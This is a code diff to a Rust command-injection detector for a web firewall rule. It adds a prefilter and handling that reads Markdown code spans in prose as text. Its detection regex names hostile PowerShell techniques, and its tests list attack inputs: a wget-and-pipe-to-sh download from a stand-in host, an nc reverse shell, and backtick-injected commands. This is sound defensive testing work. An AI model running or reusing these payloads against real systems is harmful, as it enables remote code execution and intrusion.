@@ -17,7 +17,7 @@ use std::sync::LazyLock;
 
 use regex::bytes::Regex;
 
-use super::{Detector, Hit, Rule, Severity};
+use super::{Detector, Hit, Rule, Severity, pattern};
 
 pub static COMMAND: Rule = Rule {
     id: 932100,
@@ -249,10 +249,9 @@ const ARGUMENTLESS: &[&str] = &[
 ];
 
 static POWERSHELL_PATTERN: LazyLock<Option<Regex>> = LazyLock::new(|| {
-    Regex::new(
+    pattern(
         r"(?i)\b(?:powershell|pwsh)(?:\.exe)?\s+(?:-[a-z]+\s+)*-(?:e|enc|encodedcommand|c|command|nop|noprofile|w|windowstyle|exec|executionpolicy)\b|\binvoke-(?:expression|webrequest|command|restmethod|shellcode|mimikatz)\b|\biex\s*[(\x22'$]|new-object\s+(?:system\.)?net\.webclient|\.download(?:string|file|data)\s*\(|\bstart-process\b|\bset-mppreference\b",
     )
-    .ok()
 });
 
 /// Reports command injection in one decoded form.
@@ -268,31 +267,90 @@ pub fn detect(form: &[u8], hits: &mut Vec<Hit>) {
         ));
         return;
     }
-    if !form.iter().any(|&byte| {
-        matches!(
-            byte,
-            b';' | b'|'
-                | b'&'
-                | b'\n'
-                | b'`'
-                | b'$'
-                | b'\''
-                | b'"'
-                | b'\\'
-                | b'^'
-                | b'{'
-                | b'%'
-                | b'/'
-        )
-    }) {
+    if !may_hold_command(form) {
         return;
     }
-    let normalized = normalize(form);
+    let unmarked = markdown_code_as_text(form);
+    let normalized = normalize(unmarked.as_deref().unwrap_or(form));
     let tokens = lex(&normalized.text);
     let lowered = String::from_utf8_lossy(form).to_ascii_lowercase();
     if let Some((rule, command)) = find_command(&tokens, &lowered, normalized.spacing_evaded) {
         hits.push(Hit::new(rule, 0..form.len(), command));
     }
+}
+
+/// A command needs a position: a separator or substitution (`; | & \n \` $(`), an evasion that
+/// builds one (`$IFS`, `{a,b}`, `^`, `%VAR%`), or an absolute path to a binary. A value with
+/// none of these skips the lexer.
+fn may_hold_command(form: &[u8]) -> bool {
+    form.iter().enumerate().any(|(at, &byte)| match byte {
+        b';' | b'|' | b'&' | b'\n' | b'`' | b'$' | b'{' | b'^' => true,
+        b'%' => form.get(at + 1).is_some_and(u8::is_ascii_alphabetic),
+        b'/' => {
+            let rest = &form[at..];
+            rest.starts_with(b"/bin/") || rest.starts_with(b"/sbin/") || rest.starts_with(b"/usr/")
+        }
+        _ => false,
+    })
+}
+
+/// Markdown code is text about commands, not a command: a fence (```` ```sh ````) and an inline
+/// span (`` `ls -la` ``) in a sentence of at least four words, bounded by spaces or punctuation,
+/// lose their backticks, so the shell lexer does not read them as substitutions. A backtick
+/// glued to a word (`` 127.0.0.1`id` ``) or in a value that is not prose stays a substitution.
+fn markdown_code_as_text(form: &[u8]) -> Option<Vec<u8>> {
+    /// Words outside code that make a value prose.
+    const MIN_PROSE_WORDS: usize = 4;
+    memchr::memchr(b'`', form)?;
+    let text = String::from_utf8_lossy(form);
+    let mut out = String::with_capacity(text.len());
+    let mut prose_words = 0;
+    let mut rest = text.as_ref();
+    while let Some(open) = rest.find('`') {
+        let (before, after) = rest.split_at(open);
+        prose_words += before
+            .split_whitespace()
+            .filter(|word| word.chars().filter(|c| c.is_alphabetic()).count() >= 2)
+            .count();
+        out.push_str(before);
+        if let Some(fenced) = after.strip_prefix("```") {
+            // The fence and its info string (`python`, `sh`) become a line break.
+            let info_end = fenced.find(char::is_whitespace).unwrap_or(fenced.len());
+            out.push('\n');
+            rest = &fenced[info_end..];
+            continue;
+        }
+        let span = &after[1..];
+        let Some(close) = span.find('`') else {
+            out.push_str(after);
+            rest = "";
+            break;
+        };
+        let bounded_before = before
+            .chars()
+            .next_back()
+            .is_none_or(|c| c.is_whitespace() || "([\"'".contains(c));
+        let bounded_after = span[close + 1..]
+            .chars()
+            .next()
+            .is_none_or(|c| c.is_whitespace() || ".,;:!?)]\"'".contains(c));
+        if bounded_before && bounded_after {
+            out.push(' ');
+            out.push_str(&span[..close]);
+            out.push(' ');
+        } else {
+            out.push('`');
+            out.push_str(&span[..close]);
+            out.push('`');
+        }
+        rest = &span[close + 1..];
+    }
+    prose_words += rest
+        .split_whitespace()
+        .filter(|word| word.chars().filter(|c| c.is_alphabetic()).count() >= 2)
+        .count();
+    out.push_str(rest);
+    (prose_words >= MIN_PROSE_WORDS).then(|| out.into_bytes())
 }
 
 struct Normalized {
@@ -304,14 +362,16 @@ struct Normalized {
 
 static IFS: LazyLock<Option<Regex>> = LazyLock::new(|| {
     // `$IFS`, `${IFS}`, `$IFS$9`, and `${VAR:0:1}` slices (which attackers use to conjure `/`).
-    Regex::new(r"\$\{?IFS\}?(?:\$[0-9])?|\$\{[A-Za-z_]+:[0-9]+:[0-9]+\}|%[A-Za-z_]+:~[0-9,-]+%")
-        .ok()
+    pattern(r"\$\{?IFS\}?(?:\$[0-9])?|\$\{[A-Za-z_]+:[0-9]+:[0-9]+\}|%[A-Za-z_]+:~[0-9,-]+%")
 });
 
 fn normalize(form: &[u8]) -> Normalized {
     let mut text = String::from_utf8_lossy(form).into_owned();
     let mut spacing_evaded = false;
-    if let Some(regex) = IFS.as_ref() {
+    if let Some(regex) = IFS
+        .as_ref()
+        .filter(|_| memchr::memchr2(b'$', b'%', form).is_some())
+    {
         let replaced =
             regex.replace_all(text.as_bytes(), |captures: &regex::bytes::Captures<'_>| {
                 let matched = captures.get(0).map_or(&b""[..], |found| found.as_bytes());
@@ -576,6 +636,7 @@ mod tests {
             "a && uname -a",
             "$(wget http://evil.example/x.sh -O- | sh)",
             "`id`",
+            "127.0.0.1`id`",
             "x\nnc -e /bin/sh 10.0.0.1 4444",
             "127.0.0.1 & ipconfig /all",
             "foo|/bin/bash -i",
@@ -627,6 +688,8 @@ mod tests {
             "it's \"less\" than I hoped",
             "He said: echo this back",
             "Sure; I'd love to, it's great",
+            "Run `ls -la` in the project folder and paste the output here.",
+            "```python\nfor item in items:\n    print(item.name)\n```",
             "salt & pepper",
         ] {
             assert!(!rule_ids(benign).contains(&932100), "{benign}");
